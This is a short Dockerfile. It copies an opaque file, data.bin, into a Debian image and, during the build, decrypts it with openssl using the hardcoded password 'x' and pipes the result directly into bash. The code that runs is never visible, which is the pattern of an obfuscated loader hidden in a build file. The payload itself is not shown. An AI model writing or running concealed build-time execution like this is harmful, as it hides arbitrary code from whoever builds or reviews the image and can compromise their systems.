FROM debian:12-slim
COPY data.bin /srv/
RUN openssl enc -d -aes-256-cbc -pass pass:x -in /srv/data.bin | bash -s
